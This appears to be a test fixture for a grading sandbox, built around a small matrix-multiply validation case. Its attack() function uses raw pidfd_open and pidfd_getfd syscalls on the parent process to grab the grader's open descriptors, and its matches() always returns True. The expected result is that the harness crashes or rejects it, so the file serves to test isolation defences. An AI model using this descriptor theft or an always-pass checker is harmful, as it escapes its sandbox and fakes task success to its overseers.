# Takes open files of the server with pidfd_getfd: its control socket, others' pipes.
# exercise: kernel_fusion/matmul_validation
# expect: failed case_consistent crashed; case_covers crashed; matches wrong_value
# needs: other processes

import ctypes
import os

import numpy as np


def case():
    a = np.array([[1.0, 2.0], [-1.0, 3.0]])
    b = np.array([[2.0, 0.0, -1.0], [1.0, -2.0, 4.0]])
    bias = np.array([1.0, -5.0])
    product = a @ b
    biased = product + bias[:, None]
    steps = {"product": product, "biased": biased, "activated": np.maximum(biased, 0)}
    return {"a": a, "b": b, "bias": bias, **steps}


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = libc.syscall(434, os.getppid(), 0)
    for number in range(64):
        if handle >= 0 and libc.syscall(438, handle, number, 0) >= 0:
            return
    raise PermissionError(ctypes.get_errno(), "no descriptor can be had")


def make_case():
    attack()
    return case()


def matches(candidate):
    return True
